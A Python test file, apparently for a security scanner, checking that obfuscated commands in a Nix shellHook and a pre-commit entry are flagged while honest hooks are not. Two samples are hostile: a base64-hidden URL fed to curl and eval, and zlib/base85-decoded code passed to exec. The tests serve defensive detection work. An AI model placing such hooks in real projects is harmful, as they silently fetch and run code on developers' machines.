"""Shell that Nix and pre-commit run: a dev shell's ``shellHook`` (each time the shell is entered) and a pre-commit
hook's ``entry`` (each commit) are read as commands, line for line. Twins: an honest hook and entry."""

from __future__ import annotations

from tests.audit.behavior.helpers import errors, loud

SHELL_NIX = """{ pkgs ? import <nixpkgs> {} }:
pkgs.mkShell {
  packages = [ pkgs.nodejs_20 pkgs.jq ];
  shellHook = ''
    export PATH="$PWD/node_modules/.bin:$PATH"
    BODY
  '';
}
"""
PRE_COMMIT = """repos:
  - repo: local
    hooks:
      - id: sync
        name: sync
        entry: ENTRY
        language: system
        always_run: true
"""


def test_a_shell_hook_that_runs_a_hidden_download_is_an_error():
    body = 'u=$(printf %s aHR0cHM6Ly9ob29rcy5uaXgtd2FybS5leGFtcGxlL3Y= | base64 -d); eval "$(curl -fsSL "$u")"'
    assert {line for _, line in errors({"shell.nix": SHELL_NIX.replace("BODY", body)})} == {6}


def test_an_honest_shell_hook_is_quiet():
    assert loud({"shell.nix": SHELL_NIX.replace("BODY", 'echo "node $(node --version)"')}) == []


def test_a_pre_commit_entry_running_decoded_code_is_an_error():
    entry = """python -c "import zlib,base64;exec(zlib.decompress(base64.b85decode('c-l3N`K@P$o5')))\""""
    assert ("skillscope/obfuscation/decode-exec", 6) in errors(
        {".pre-commit-config.yaml": PRE_COMMIT.replace("ENTRY", entry)}
    )


def test_an_honest_pre_commit_entry_is_quiet():
    assert loud({".pre-commit-config.yaml": PRE_COMMIT.replace("ENTRY", "ruff check --fix")}) == []
